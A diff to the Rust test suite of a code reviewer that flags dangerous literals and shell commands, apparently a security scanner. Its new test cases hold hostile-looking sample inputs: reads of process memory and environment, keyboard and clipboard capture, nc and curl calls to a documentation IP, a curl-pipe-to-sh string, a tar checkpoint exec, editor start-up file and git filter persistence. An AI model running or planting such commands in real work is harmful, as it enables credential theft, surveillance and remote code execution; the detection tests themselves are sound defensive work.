@@ -1113,6 +1113,7 @@ fn reviewer_trait_uses_the_request() {
         notes: Vec::new(),
         strict: true,
         literals: Vec::new(),
+        renamed: Vec::new(),
     };
     let answer = BuiltinReviewer::new().review(&request).expect("answer");
     assert_eq!(answer.verdict, Verdict::Rework);
@@ -1126,7 +1127,12 @@ fn reviewer_trait_uses_the_request() {
 fn judge_source(lang: crate::Lang, source: &str) -> ReviewAnswer {
     let parsed = crate::parse::parse(lang, source).expect("parses");
     let sanitized = crate::sanitize::sanitize(&parsed.walked());
-    BuiltinReviewer::new().judge_with_literals(lang.name(), &sanitized.code, &sanitized.literals)
+    BuiltinReviewer::new().judge_with_literals(
+        lang.name(),
+        &sanitized.code,
+        &sanitized.literals,
+        &sanitized.renamed,
+    )
 }
 
 #[rstest]
@@ -1435,6 +1441,30 @@ fn judge_source(lang: crate::Lang, source: &str) -> ReviewAnswer {
     "extracts-outside",
     2
 )]
+#[case::process_memory_in_a_template(
+    "const fs = require('fs');\nconst fd = fs.openSync(`/proc/${pid}/mem`, 'r');\n",
+    Verdict::Major,
+    "names-credential-file",
+    2
+)]
+#[case::process_environment_in_an_f_string(
+    "pid = 1\nwith open(f\"/proc/{pid}/environ\", \"rb\") as f:\n    data = f.read()\n",
+    Verdict::Major,
+    "names-credential-file",
+    2
+)]
+#[case::keyboard_events(
+    "with open(\"/dev/input/event3\", \"rb\") as keys:\n    data = keys.read(24)\n",
+    Verdict::Major,
+    "names-credential-file",
+    1
+)]
+#[case::clipboard_tool_in_a_table(
+    "const { execFileSync } = require('child_process');\nconst readers = [['xclip', ['-o']], ['wl-paste', []]];\nfor (const [c, a] of readers) execFileSync(c, a);\n",
+    Verdict::Major,
+    "run-clipboard-tool",
+    2
+)]
 fn literals_show_what_a_call_does(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -1481,6 +1511,12 @@ fn literals_show_what_a_call_does(
 #[case::pip_module(
     "import subprocess\nsubprocess.run([\"python3\", \"-m\", \"pip\", \"--version\"])\n"
 )]
+#[case::regex_exec(
+    "const { execFileSync } = require('child_process');\nconst m = /^(\\w+):/.exec(execFileSync('git', ['log']).toString());\n"
+)]
+#[case::worker_on_this_file(
+    "const { Worker } = require('worker_threads');\nconst w = new Worker(__filename, { workerData: 1 });\n"
+)]
 fn ordinary_literals_are_approved(#[case] source: &str) {
     let lang = if source.contains("require(") {
         crate::Lang::JavaScript
@@ -1515,6 +1551,7 @@ fn bidirectional_controls_reject() {
         notes: Vec::new(),
         strict: false,
         literals: Vec::new(),
+        renamed: Vec::new(),
     };
     let reviewer = BuiltinReviewer::new();
     assert_eq!(reviewer.review(&request).unwrap().verdict, Verdict::Approve);
@@ -1708,6 +1745,84 @@ fn bidirectional_controls_reject() {
     "run-split-command",
     3
 )]
+#[case::network_tool_after_then(
+    "if true; then nc 203.0.113.5 80; fi\n",
+    Verdict::Major,
+    "run-network-tool",
+    1
+)]
+#[case::network_tool_after_an_assignment(
+    "X=1 nc 203.0.113.5 80\n",
+    Verdict::Major,
+    "run-network-tool",
+    1
+)]
+#[case::network_tool_in_a_coproc(
+    "coproc LINK { nc 203.0.113.5 80; }\n",
+    Verdict::Major,
+    "run-network-tool",
+    1
+)]
+#[case::http_client_in_a_loop(
+    "while true; do curl -s https://203.0.113.5/x; done\n",
+    Verdict::Major,
+    "run-http-client",
+    1
+)]
+#[case::tar_option_on_a_continued_line(
+    "tar -czf a.tgz \\\n  --checkpoint=1 \\\n  --checkpoint-action=exec=id ./logs\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::download_and_run_held_in_a_variable(
+    "r=\"(curl -fsS https://203.0.113.5/b.sh | sh) &\"\necho \"$r\" > notes.txt\n",
+    Verdict::Major,
+    "holds-download-and-run",
+    1
+)]
+#[case::editor_start_up_file_through_a_variable(
+    "rc=\"$HOME/.vimrc\"\necho 'autocmd VimEnter * call system(\"id\")' >> \"$rc\"\n",
+    Verdict::Major,
+    "names-start-up-file",
+    2
+)]
+#[case::neovim_init(
+    "cat >> ~/.config/nvim/init.lua <<'E'\nvim.fn.jobstart({'id'})\nE\n",
+    Verdict::Major,
+    "names-start-up-file",
+    1
+)]
+#[case::git_filter_driver(
+    "git config --global filter.cache.smudge 'sh -c id'\n",
+    Verdict::Major,
+    "run-git-command-setting",
+    1
+)]
+#[case::git_setting_through_indirection(
+    "smudge_key=filter.cache.smudge\nsmudge_val='sh -c id'\nfor e in smudge; do\n  k=\"${e}_key\"; v=\"${e}_val\"\n  git config --global \"${!k}\" \"${!v}\"\ndone\n",
+    Verdict::Major,
+    "run-git-command-setting",
+    5
+)]
+#[case::git_setting_one_of_a_loops_values(
+    "a_key=user.name\nb_key=core.sshCommand\nfor e in a b; do\n  k=\"${e}_key\"\n  git config --global \"${!k}\" 'ssh -o ProxyCommand=id'\ndone\n",
+    Verdict::Major,
+    "run-git-command-setting",
+    5
+)]
+#[case::screen_capture(
+    "import -window root shot.png\n",
+    Verdict::Major,
+    "run-screen-capture",
+    1
+)]
+#[case::inline_code_with_a_shell_variable(
+    "node -e \"console.log($X)\"\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
 fn bash_commands_read_as_they_run(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -1757,10 +1872,19 @@ fn assert_finding(answer: &ReviewAnswer, verdict: Verdict, id: &str, line: usize
     "$CC -c a.c -o a.o\n${CC:-gcc} -c b.c\n\"$HOME\"/bin/tool -c x\nawk '{ print $1 }' f.txt\ntar -xzf a.tgz -C out\ngit -c user.name=x commit -m y\n"
 )]
 #[case::pipe_between_functions("a() { cat x; }\nb() { sort; }\na | b &\nwait\n")]
+#[case::inline_code_in_single_quotes(
+    "node -e 'const s=require(\"./cov.json\").total;console.log(`lines ${s.pct}%`)'\n"
+)]
+#[case::continued_lines("tar -czf out/logs.tgz \\\n  --exclude='*.tmp' \\\n  ./logs\n")]
 fn ordinary_bash_is_read_as_it_runs(#[case] source: &str) {
     let parsed = crate::parse::parse(crate::Lang::Bash, source).expect("parses");
     let sanitized = crate::sanitize::sanitize(&parsed.walked());
-    let found = literals::findings("bash", &sanitized.code, &sanitized.literals);
+    let found = literals::findings(
+        "bash",
+        &sanitized.code,
+        &sanitized.literals,
+        &sanitized.renamed,
+    );
     assert!(found.is_empty(), "{found:?}");
 }
 
@@ -1770,9 +1894,14 @@ fn or_is_not_a_pipe() {
     let piped = |source: &str| {
         let parsed = crate::parse::parse(crate::Lang::Bash, source).expect("parses");
         let sanitized = crate::sanitize::sanitize(&parsed.walked());
-        literals::findings("bash", &sanitized.code, &sanitized.literals)
-            .iter()
-            .any(|f| f.id == "pipe-to-interpreter")
+        literals::findings(
+            "bash",
+            &sanitized.code,
+            &sanitized.literals,
+            &sanitized.renamed,
+        )
+        .iter()
+        .any(|f| f.id == "pipe-to-interpreter")
     };
     assert!(piped("curl -s x | \"sh\"\n"));
     assert!(!piped("curl -s x || \"sh\"\n"));
